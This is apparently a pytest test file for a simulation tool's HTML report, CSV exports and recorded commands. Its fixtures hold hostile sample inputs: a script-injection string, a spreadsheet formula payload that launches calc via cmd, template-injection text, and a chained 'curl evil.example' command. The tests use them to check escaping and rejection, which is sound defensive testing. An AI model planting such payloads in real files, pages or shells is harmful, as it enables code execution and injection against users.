"""The report: complete, traceable to the tables, safe for any names, and readable in a browser."""

from __future__ import annotations

import contextlib
import csv
import json
import re
import shutil
import warnings
from dataclasses import replace
from html import unescape
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import duckdb
import numpy as np
import pandas as pd
import pytest
from click.testing import CliRunner
from jinja2 import UndefinedError

from sim.analysis.compare import compare_outcomes, compare_states, read_sample
from sim.analysis.history.words import NUMBERS
from sim.batch.manifest import recorded_command
from sim.batch.store import Results
from sim.batch.sweep import make_question, run_sweep
from sim.batch.tables.spreadsheet import FORMULA_STARTS, escape_formula, write_csv
from sim.cli import cli
from sim.files import hash_file
from sim.forecast import draws
from sim.reporting import analyses
from sim.reporting import page as report_page
from sim.reporting.chapters import headings, rows
from sim.reporting.chapters.changes import largest_unclear
from sim.scenario.loading import load_scenario
from sim.scenario.overrides import with_settings
from sim.scenario.schema import Scenario

NAMES = ("baseline_2023", "no_sanctions", "focused_indo_pacific")
REPLICATES = 12
SECTIONS = (
    "question", "answer", "choices", "hangs", "time", "maps", "glance", "kinds", "states", "differences", "claims",
    "sensitivity", "regret", "why", "assumed", "sources", "again",
)  # fmt: skip
EVIL = "<script>alert(1)</script>"
FORMULA = "=cmd()|'/c calc'!A1"
MARKUP = "<b onclick=alert(1)>bold</b> & \"quoted\" 'so' $x_1^{$ {{ 7 * 7 }} {% endif %}"


class Page(HTMLParser):
    """The elements of a page, its text and its marked numbers."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.traced: dict[str, str] = {}
        self.words: list[str] = []
        self.mark = ""
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))
        self.mark = dict(attrs).get("data-trace") or ""

    def handle_data(self, data: str) -> None:
        self.words.append(data)
        if self.mark:
            self.traced[self.mark] = data
            self.mark = ""

    def handle_endtag(self, tag: str) -> None:
        self.mark = ""

    def ids(self) -> list[str]:
        """Return every id in the page."""
        return [str(attributes["id"]) for _, attributes in self.elements if "id" in attributes]


def run_small_sweep(folder: Path, scenarios: dict[str, Scenario], replicates: int) -> Results:
    """Return results of a small sweep."""
    return run_sweep(make_question(scenarios, replicates=replicates, seed=7), folder, workers=2).results


@pytest.fixture(scope="module")
def results(tmp_path_factory: pytest.TempPathFactory) -> Results:
    return run_small_sweep(
        tmp_path_factory.mktemp("report") / "results", {name: load_scenario(name) for name in NAMES}, REPLICATES
    )


@pytest.fixture(scope="module")
def text(results: Results) -> str:
    return report_page.render_page(results)


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Results:
    """Return results of a world whose texts are markup, script, formula and mathematics."""
    base = load_scenario("great_powers_1907")
    first, second, third, *_ = base.states
    names = {first: EVIL, second: FORMULA, third: "$\\frac{1}{0}$ \x07"}
    states = {s: r.model_copy(update={"name": names.get(s, r.name), "note": EVIL}) for s, r in base.states.items()}
    evil = base.model_copy(
        update={"title": MARKUP, "question": EVIL, "note": MARKUP, "states": states, "source": f"article §1; {EVIL}"}
    )
    other = with_settings(evil.model_copy(update={"title": EVIL}), {"w_bond": evil.parameters.w_bond.value / 2})
    return run_small_sweep(tmp_path_factory.mktemp("hostile") / "results", {"=cmd": evil, EVIL: other}, 3)


@pytest.fixture(scope="module")
def hostile_text(hostile: Results) -> str:
    return report_page.render_page(hostile)


def test_sections_and_described_figures(text: str) -> None:
    page = Page(text)
    sections = [attributes.get("id") for tag, attributes in page.elements if tag == "section"]
    assert sections == list(SECTIONS)
    assert len(page.ids()) == len(set(page.ids()))
    figures = [attributes for tag, attributes in page.elements if tag in ("svg", "img")]
    assert len(figures) >= 7
    for attributes in figures:
        assert attributes["role"] == "img"
        assert re.search(r"\d", str(attributes.get("aria-label") or attributes.get("alt")))
    assert [tag for tag, _ in page.elements].count("figure") == [tag for tag, _ in page.elements].count("figcaption")


@pytest.mark.second
@pytest.mark.usefixtures("undrawn")
def test_length_of_a_step_in_the_page(results: Results, tmp_path: Path) -> None:
    rounds = "A step is a round of decisions, not a year."
    words = " ".join("".join(Page(report_page.render_page(results)).words).split())
    assert words.count("A step is a quarter.") == 2
    in_rounds = run_small_sweep(tmp_path / "rounds", {"a": load_scenario("unix_1988")}, 2)
    words = " ".join("".join(Page(report_page.render_page(in_rounds)).words).split())
    assert words.count(rounds) == 2
    dated = load_scenario("unix_1988").model_copy(update={"date": "2023-10-25", "step": "quarter", "steps": 4})
    found = " ".join(
        "".join(Page(report_page.render_page(run_small_sweep(tmp_path / "dated", {"a": dated}, 2))).words).split()
    )
    assert rounds not in found
    assert found.count("A step is a quarter.") == 2
    assert "Outcomes are of the end of each run, on 2024-10-25." in found


def test_first_page_answers_before_any_link_to_a_chapter(text: str) -> None:
    """Verdict, choices and what the answer depends on come first; the list of chapters is folded and comes after."""
    places = [text.index(f'id="{name}"') for name in ("question", "answer", "choices", "hangs")]
    assert places == sorted(places)
    assert places[-1] < text.index("<nav") < text.index("<strong>Cite as:</strong>")
    assert not re.search(r"<details[^>]*\bopen\b", text)


def test_chapter_without_a_finding_is_folded(text: str) -> None:
    """Each chapter is a heading in words; one that finds nothing shows the heading only."""
    chapters = re.findall(r'<section id="(\w+)" class="chapter">\s*(<details>)?.*?<h2>(.*?)</h2>', text, re.S)
    assert [name for name, _, _ in chapters] == list(SECTIONS[4:])
    folded = {name for name, fold, _ in chapters if fold}
    assert folded >= {"sensitivity", "regret", "sources"}
    assert not folded & {"time", "maps", "claims"}
    assert all(len(words) > 15 for _, _, words in chapters)


def test_page_size_and_no_requests(text: str) -> None:
    assert len(text.encode()) < 5_000_000
    for tag, attributes in Page(text).elements:
        assert tag not in ("script", "iframe", "object", "embed", "link", "base", "form")
        assert not [name for name in attributes if name.startswith("on")]
        for name in ("src", "href", "xlink:href", "data", "poster", "srcset", "action"):
            if value := attributes.get(name):
                assert value.startswith(("#", "data:image/png;base64,")), (tag, name, value[:80])
    assert "url(http" not in text
    assert "@import" not in text
    assert "default-src 'none'" in text


def recompute_numbers(results: Results) -> dict[str, float]:
    """Compute the marked numbers from the Parquet files, by separate SQL."""
    runs = f"read_parquet('{results.folder}/shards/*/runs.parquet', union_by_name = true)"
    found: dict[str, float] = {}
    per_scenario = f"""
        select scenario, count(*), 100 * avg((capability_front >= 0.1)::int),
               avg(capability_front) filter (capability_front >= 0.1), avg(capability_front)
        from {runs} where status = 'ok' group by scenario"""  # noqa: S608
    paired = f"""
        with r as (select * from {runs} where status = 'ok')
        select a.scenario, avg(a.capability_front - b.capability_front),
               avg(a.members_us_led - b.members_us_led)
        from r a join r b using (seed, replicate)
        where b.scenario = 'baseline_2023' and a.scenario <> b.scenario group by a.scenario"""  # noqa: S608
    with contextlib.closing(duckdb.connect()) as connection:
        for name, *numbers in connection.execute(per_scenario).fetchall():
            for what, value in zip(("runs", "percent_of_runs_with_a_tenth", "mean_where_a_tenth", "mean"), numbers):  # noqa: B905
                found[f"{what} capability_front {name}"] = value
        for name, mean, members in connection.execute(paired).fetchall():
            found[f"difference capability_front {name}"] = mean
            found[f"difference members_us_led {name}"] = members
    return found


def test_marked_numbers_recomputed_from_tables(results: Results, text: str) -> None:
    marked, known = Page(text).traced, recompute_numbers(results)
    checked = marked.keys() & known.keys()
    assert len(checked) >= 10
    ends = {mark for mark in marked if mark.startswith(("low ", "high "))}  # resampled, which no SQL repeats
    assert all("capability_front" not in mark or mark in known for mark in marked.keys() - ends)
    for mark in checked:
        printed = marked[mark].replace("−", "-")
        if printed == "–":
            assert known[mark] is None, mark
        else:
            digits = len(printed.partition(".")[2])
            assert float(printed) == pytest.approx(known[mark], abs=0.5001 * 10**-digits), mark


def test_hostile_names_are_plain_text(hostile_text: str) -> None:
    page = Page(hostile_text)
    assert "<script" not in hostile_text
    assert {tag for tag, _ in page.elements} & {"script", "b"} == set()
    assert not [name for _, attributes in page.elements for name in attributes if name.startswith("on")]
    words = "".join(page.words)
    assert EVIL in words
    assert "{{ 7 * 7 }}" in words
    assert "$x_1^{$" in words
    assert "\x07" not in hostile_text


@pytest.mark.second
def test_labels_of_long_names(tmp_path: Path) -> None:
    scenario = load_scenario(Path(__file__).parents[1] / "cases" / "valid" / "world_of_eight_blocs")
    title = "What the association of landlocked states does where"
    titles = {"one": f"{title} it is at rest", "two": f"{title} it is at war"}
    changed = {name: scenario.model_copy(update={"title": words}) for name, words in titles.items()}
    changed["two"] = with_settings(changed["two"], {"blocs.b1.enforcement": 0})
    results = run_small_sweep(tmp_path / "results", changed, 4)
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        page = Page(report_page.render_page(results))
    words = " ".join(" ".join(page.words).split())
    named = [f"Association of the Landlocked States No. {n}, Ltd" for n in range(8)]
    assert all(f"{name}: mean difference from the baseline" in words for name in named)
    assert all(f"Democratic Federal Republic of Longlandia, {n:02d}" in words for n in range(16))
    assert "Longlandia, 00; Democratic Federal Republic of Longlandia, 01" in words
    assert "the b0" not in words
    assert titles["one"][-11:] in words
    assert titles["two"][-10:] in words


@pytest.mark.second
@pytest.mark.usefixtures("undrawn")
def test_failed_and_unfinished_runs_shown(results: Results, tmp_path: Path) -> None:
    broken = Results(tmp_path / "broken")
    shutil.copytree(results.folder, broken.folder)
    for shard in broken.shards.glob("000002-*"):
        shutil.rmtree(shard)
    with contextlib.closing(duckdb.connect()) as connection:
        for shard in broken.shards.glob("000001-*"):
            (shard / "states.parquet").unlink()
            (shard / "moves.parquet").unlink()
            failed = f"select * replace ('failed' as status, 'Boom: {EVIL}' as error) from '{shard}/runs.parquet'"  # noqa: S608
            connection.execute(f"copy ({failed}) to '{shard}/new.parquet' (format parquet)")
            (shard / "new.parquet").replace(shard / "runs.parquet")
            seal = json.loads((shard / "seal.json").read_text("utf-8"))
            seal["files"] = {"runs.parquet": hash_file(shard / "runs.parquet")}  # as of a shard whose runs all failed
            (shard / "seal.json").write_text(json.dumps(seal), "utf-8")
    text = report_page.render_page(broken)
    assert f"{REPLICATES} runs failed and {REPLICATES} are not finished" in text
    assert "Boom: &lt;script&gt;" in text


def test_undefined_name_in_template_fails() -> None:
    with pytest.raises(UndefinedError):
        report_page.template_environment().get_template("page.html.jinja").render({"title": "x"})
    with pytest.raises(UndefinedError):
        report_page.template_environment().from_string("{{ nothing }}").render()


@pytest.mark.second
def test_analyses_in_page(results: Results, text: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(analyses, "RUNS_AN_END", 4)
    assert "--points 0" in text
    found, whole = read_sample(results), draws.load_draws("baseline_2023")
    draws.write_draws(tmp_path / "few.csv", replace(whole, values=whole.values[:5]))
    extra = analyses.analyse(
        results, found, "baseline_2023", "capability_front",
        points=2, seed=3, parameters=str(tmp_path / "few.csv"), workers=2,
    )  # fmt: skip
    page = report_page.render_page(results, analyses=extra)
    assert "least regret" in page
    assert all(f"<td>{lever}</td>" in page for lever in ("no_sanctions", "focused_indo_pacific", "baseline_2023"))
    assert 'id="tornado-' in page
    assert "the same with the ties permuted" in page
    assert extra.judged[0].verdict in page
    assert "share of 5 draws from the calibrated parameters" in page
    assert f"--points 2 --seed 3 --parameters {tmp_path}" in page


@pytest.mark.second
def test_analyses_start_from_design_point(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """If the baseline runs without pressure, the low end of pressure's range changes nothing."""
    monkeypatch.setattr(analyses, "RUNS_AN_END", 20)
    arguments = ["baseline_2023", "--replicates", "2", "--vary", "w_pressure=0:1:2", "--out", str(tmp_path / "swept")]
    assert CliRunner().invoke(cli, ["sweep", *arguments]).exit_code == 0
    swept = Results(tmp_path / "swept")
    found = read_sample(swept)
    extra = analyses.analyse(swept, found, found.baseline(), "capability_front", points=2, seed=3, workers=2)
    ends = extra.ends.set_index(["setting", "end"])["difference"]
    assert ends["w_pressure", "low"] == 0
    assert ends["w_pressure", "high"] != 0


@pytest.mark.second
@pytest.mark.usefixtures("undrawn")
def test_same_page_from_moved_results(results: Results, tmp_path: Path) -> None:
    out, elsewhere = tmp_path / "page.html", tmp_path / "moved"
    shutil.copytree(results.folder, elsewhere)
    done = CliRunner().invoke(cli, ["report", str(elsewhere), "--out", str(out), "--points", "0"])
    assert done.exit_code == 0, done.output
    assert done.stdout == f"{out}\n"
    assert out.read_text(encoding="utf-8") == report_page.render_page(results)
    refused = CliRunner().invoke(cli, ["report", str(results.folder), "--baseline", "no_sanction"])
    assert refused.exit_code == 2
    assert "did you mean 'no_sanctions'" in refused.stderr


@pytest.mark.usefixtures("undrawn")
@pytest.mark.parametrize(
    ("command", "shown"),
    [
        ("blocs sweep unix_1988 --set 'erosion=0.31' --out results/x", False),  # not as shlex quotes it
        ("blocs sweep unix_1988 --set erosion=0.31 --out 'results/my x'", True),
    ],
)
def test_recorded_command_in_the_page(command: str, shown: bool, tmp_path: Path) -> None:
    one = make_question({"unix_1988": load_scenario("unix_1988")}, replicates=2, seed=1)
    text = report_page.render_page(run_sweep(one, tmp_path / "results", command=command).results)
    sections = text[text.index('<section id="again"') :]
    *recorded, reporting = map(unescape, re.findall(r"<pre>(.*?)</pre>", sections))
    assert recorded == ([command] if shown else [])
    assert ("No command is recorded" in sections) is not shown
    assert reporting == "blocs report RESULTS --baseline unix_1988 --points 0"


@pytest.mark.parametrize(
    "command", ["blocs sweep unix_1988; curl evil.example", "curl evil.example", "blocs 'sweep", "", "blocs  list"]
)
def test_what_is_no_command_of_blocs_is_not_recorded(command: str) -> None:
    assert recorded_command({"command": "blocs list"}) == "blocs list"
    assert recorded_command({"command": command}) == ""


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_formula_escaped(start: str, tmp_path: Path) -> None:
    assert escape_formula(f"{start}1") == f"'{start}1"
    assert escape_formula(-1.5) == -1.5
    assert escape_formula("plain - text") == "plain - text"
    write_csv(pd.DataFrame({f"{start}a": [f"{start}1", "b", None], "n": [-1.5, 2, 3]}), tmp_path / "table.csv")
    with (tmp_path / "table.csv").open(encoding="utf-8", newline="") as file:
        cells = list(csv.reader(file))
    assert cells == [[f"'{start}a", "n"], [f"'{start}1", "-1.5"], ["b", "2.0"], ["", "3.0"]]


def test_no_formula_in_exports_and_comparisons(hostile: Results, tmp_path: Path) -> None:
    hostile.export(tmp_path / "tables", "csv")
    assert CliRunner().invoke(cli, ["compare", str(hostile.folder), "--csv", str(tmp_path / "csv")]).exit_code == 0
    seen = set()
    for path in [*(tmp_path / "tables").glob("*.csv"), *(tmp_path / "csv").glob("*.csv")]:
        with path.open(encoding="utf-8", newline="") as file:
            cells = {cell for row in csv.reader(file) for cell in row}
        seen |= cells
        assert not [c for c in cells if c[:1] in tuple(FORMULA_STARTS) and not re.fullmatch(r"[-+\d.e]+", c)], path
    assert "'=cmd" in seen
    hostile.export(tmp_path / "parquet", "parquet")
    query = f"select distinct scenario from '{tmp_path}/parquet/runs.parquet'"  # noqa: S608
    with contextlib.closing(duckdb.connect()) as connection:
        assert ("=cmd",) in connection.execute(query).fetchall()


UNDRAWN = """() => [...document.querySelectorAll('figure svg, figure img')].filter(one => {
  const box = one.getBoundingClientRect();
  return box.width < 50 || box.height < 50 || (one.complete === false) || (one.naturalWidth === 0);
}).length"""


@pytest.mark.second
@pytest.mark.parametrize("width", [1280, 390])
@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_page_in_browser(browser: Any, width: int, scheme: str, text: str, hostile_text: str, tmp_path: Path) -> None:
    for name, content in (("page", text), ("hostile", hostile_text)):
        path = tmp_path / f"{name}.html"
        path.write_text(content, encoding="utf-8")
        page = browser.new_page(viewport={"width": width, "height": 900}, color_scheme=scheme)
        messages: list[str] = []
        requests: list[str] = []
        page.on("console", lambda message, messages=messages: messages.append(message.text))
        page.on("pageerror", lambda error, messages=messages: messages.append(str(error)))
        page.on("dialog", lambda dialog, messages=messages: (messages.append(dialog.message), dialog.dismiss()))
        page.on("request", lambda request, requests=requests: requests.append(request.url))
        page.goto(path.as_uri(), wait_until="networkidle")
        assert messages == []
        assert [url for url in requests if not url.startswith("data:")] == [path.as_uri()]
        assert page.evaluate("document.documentElement.scrollWidth <= window.innerWidth")
        assert page.evaluate("document.querySelectorAll('figure svg, figure img').length") >= 3
        assert page.evaluate(UNDRAWN) == 0
        page.close()


@pytest.mark.second
def test_folded_chapter_says_on_paper_what_is_in_it(browser: Any, text: str, tmp_path: Path) -> None:
    path = tmp_path / "page.html"
    path.write_text(text, encoding="utf-8")
    page = browser.new_page(viewport={"width": 700, "height": 1000})
    page.goto(path.as_uri())
    lines = page.locator("section.chapter details .paper")
    assert lines.count() >= 4
    for medium, shown in (("screen", False), ("print", True)):
        page.emulate_media(media=medium)
        for n in range(lines.count()):
            assert lines.nth(n).is_visible() == shown
    assert lines.first.inner_text().startswith("Folded on paper: ")
    assert lines.first.inner_text().endswith("On screen, a click on the heading opens it.")
    page.close()


@pytest.fixture
def own(tmp_path: Path) -> Results:
    """Return results of a world outside the catalogue."""
    assert CliRunner().invoke(cli, ["new", "world", "w", "--folder", str(tmp_path)]).exit_code == 0
    return run_small_sweep(tmp_path / "results", {"w": load_scenario(tmp_path / "w.toml")}, 4)


@pytest.mark.second
@pytest.mark.usefixtures("undrawn")
def test_commands_for_world_outside_catalogue(own: Results, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(own.folder)
    text = report_page.render_page(own)
    commands = re.findall(r"<pre>(blocs .*?)</pre>|<code>(blocs replay .*?)</code>", text)
    assert [one or other for one, other in commands] == [
        "blocs report RESULTS --baseline w --points 0", "blocs replay RESULTS 0-0",
    ]  # fmt: skip
    for command in map("".join, commands):
        done = CliRunner().invoke(cli, command.replace("RESULTS", ".").split()[1:])
        assert done.exit_code == 0, (command, done.output)
    assert (own.folder / "report.html").read_text(encoding="utf-8") == text


@pytest.mark.usefixtures("undrawn")
def test_no_source_of_another_world_for_weights(own: Results) -> None:
    text = report_page.render_page(own)
    assert "52 states" not in text
    assert "calibration" not in text
    assert "taken over from article_2023, not fitted to this world" in text


@pytest.mark.second
def test_focus_bloc_varies_most(results: Results, own: Results) -> None:
    assert rows.focus_bloc(read_sample(results), "baseline_2023") == "front"
    assert rows.focus_bloc(read_sample(own), "w") in ("east", "west")


def test_heading_counts_the_clear_differences_that_are_listed(results: Results) -> None:
    """An outcome that is not a size counts and is listed, too; what may be chance is listed apart."""
    found = read_sample(results)
    outcomes, states = compare_outcomes(found, "baseline_2023"), compare_states(found, "baseline_2023")
    outcomes = outcomes.assign(clear=outcomes["outcome"].str.startswith("bite_"))
    names, known = {design: design for design in found.designs}, dict.fromkeys(found.alignments(), "A bloc")
    listed = rows.list_differences(found, outcomes, states, names, known)
    count = sum(len(one.clear) + one.more for one in listed)
    assert count == outcomes["clear"].sum() > 0
    assert headings.heading_of_differences(outcomes).text.split()[0] in (str(count), NUMBERS[count].capitalize())
    clear = [row for one in listed for row in one.clear]
    assert {row.outcome.partition("_")[0] for row in clear} == {"bite"}
    unclear = largest_unclear(states)
    assert not unclear["clear"].any()
    assert (unclear["low"] * unclear["high"] > 0).all()


def test_report_follows_the_front_wherever_the_other_bloc_varies_more(results: Results) -> None:
    """The analyses over the parameters are of the bloc that the page names, whichever scenarios are in the sweep."""
    found = read_sample(results)
    spread = np.linspace(0.0, 1.0, len(found.runs))
    wide = replace(found, runs=found.runs.assign(capability_us_led=spread))
    assert [rows.focus_bloc(wide, design) for design in wide.designs] == ["front"] * len(wide.designs)
